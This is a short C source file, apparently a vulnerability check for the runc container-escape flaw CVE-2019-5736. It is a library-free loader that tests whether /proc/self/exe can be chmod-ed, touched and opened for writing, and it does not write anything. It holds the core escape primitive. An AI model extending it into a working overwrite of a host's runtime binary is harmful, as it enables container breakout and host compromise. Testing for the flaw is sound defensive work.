/*
 * CVE-2019-5736 of runc: a program of the host that runs in the sandbox, by `#!/proc/self/exe`, with a loader of the root.
 * This is that loader. The host's program is then the process's own, and its owner may be the step's user.
 *
 * Without any library, because a loader has none. Tries neither to write nor to change what is there: it opens the program for
 * writing and gives it the rights that it has.
 */
#include <asm/unistd.h>

#if defined(__x86_64__)
static long call(long number, long first, long second, long third, long fourth) {
    long result;
    register long r10 __asm__("r10") = fourth;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(first), "S"(second), "d"(third), "r"(r10) : "rcx", "r11", "memory");
    return result;
}
#elif defined(__aarch64__)
static long call(long number, long first, long second, long third, long fourth) {
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = first;
    register long x1 __asm__("x1") = second;
    register long x2 __asm__("x2") = third;
    register long x3 __asm__("x3") = fourth;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
#endif

#define HERE (-100)

static void say(const char *text, long length) { call(__NR_write, 1, (long)text, length, 0); }

void _start(void) {
    say("runs\n", 5);
    if (call(__NR_fchmodat, HERE, (long)"/proc/self/exe", 0755, 0) == 0) say("chmod\n", 6);
    if (call(__NR_utimensat, HERE, (long)"/proc/self/exe", 0, 0) == 0) say("touch\n", 6);
    if (call(__NR_openat, HERE, (long)"/proc/self/exe", 1 /* to write */, 0) >= 0) say("write\n", 6);
    call(__NR_exit_group, 0, 0, 0, 0);
}
